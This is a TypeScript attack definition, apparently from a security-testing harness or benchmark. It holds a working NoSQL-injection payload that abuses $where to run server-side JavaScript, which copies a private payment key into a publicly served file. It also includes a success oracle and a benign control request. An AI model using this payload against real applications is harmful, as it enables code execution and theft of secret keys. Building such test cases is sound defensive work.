import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Runs JavaScript in the application with $where. */
export const nosqlWhereCode: Attack = defineAttack({
  id: 'nosql-where-code',
  class: 'nosql-injection',
  title: 'Runs JavaScript in the application with $where',
  cwe: 95,
  capec: 242,
  technique: 'T1059.007',
  preconditions: ['the folder of the application is known'],

  steps: ({ visitor, witness }) => {
    const from = JSON.stringify(`${witness.folder}/private/payment.key`)
    const to = JSON.stringify(`${witness.folder}/files/where.txt`)
    return visitor.json('/api/reviews/find', {
      $where: `process.getBuiltinModule('fs').copyFileSync(${from}, ${to})`,
    })
  },
  oracle: (_answer, { witness }) => witness.file('files/where.txt')?.includes(witness.loot.fileKey) === true,
  twin: ({ visitor }) => visitor.json('/api/reviews/find', { author: 'tomasz' }),
})
